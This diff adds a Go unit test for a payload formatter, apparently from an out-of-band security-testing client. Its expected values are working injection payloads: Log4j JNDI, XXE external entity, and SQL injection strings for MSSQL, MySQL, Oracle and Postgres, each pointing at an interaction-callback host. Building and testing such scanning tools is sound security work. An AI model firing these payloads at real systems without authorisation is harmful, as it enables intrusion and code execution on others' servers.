@@ -0,0 +1,29 @@
+package client
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestFormatPayload(t *testing.T) {
+	payload := "tag.c23b2la0kl1krjcrdj10cndmnioyyyyyn.oast.fun"
+
+	for format, expected := range map[string]string{
+		"curl":          "curl http://" + payload + "/",
+		"log4j":         "${jndi:ldap://" + payload + "/a}",
+		"xxe":           `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://` + payload + `/x.dtd">%x;]><r/>`,
+		"sqli-mssql":    `;EXEC master..xp_dirtree '\\` + payload + `\a';--`,
+		"sqli-mysql":    `SELECT LOAD_FILE(CONCAT('\\\\', '` + payload + `', '\\a'))`,
+		"sqli-oracle":   "SELECT UTL_INADDR.GET_HOST_ADDRESS('" + payload + "') FROM dual",
+		"sqli-postgres": "COPY (SELECT '') TO PROGRAM 'nslookup " + payload + "'",
+	} {
+		formatted, err := formatPayload(payload, format)
+		require.Nil(t, err, "could not format payload")
+		require.Equal(t, expected, formatted, "could not get correct %s payload", format)
+	}
+	require.Len(t, payloadFormats, len(PayloadFormats), "could not list every payload format")
+
+	_, err := formatPayload(payload, "unknown")
+	require.NotNil(t, err, "could format with unknown payload format")
+}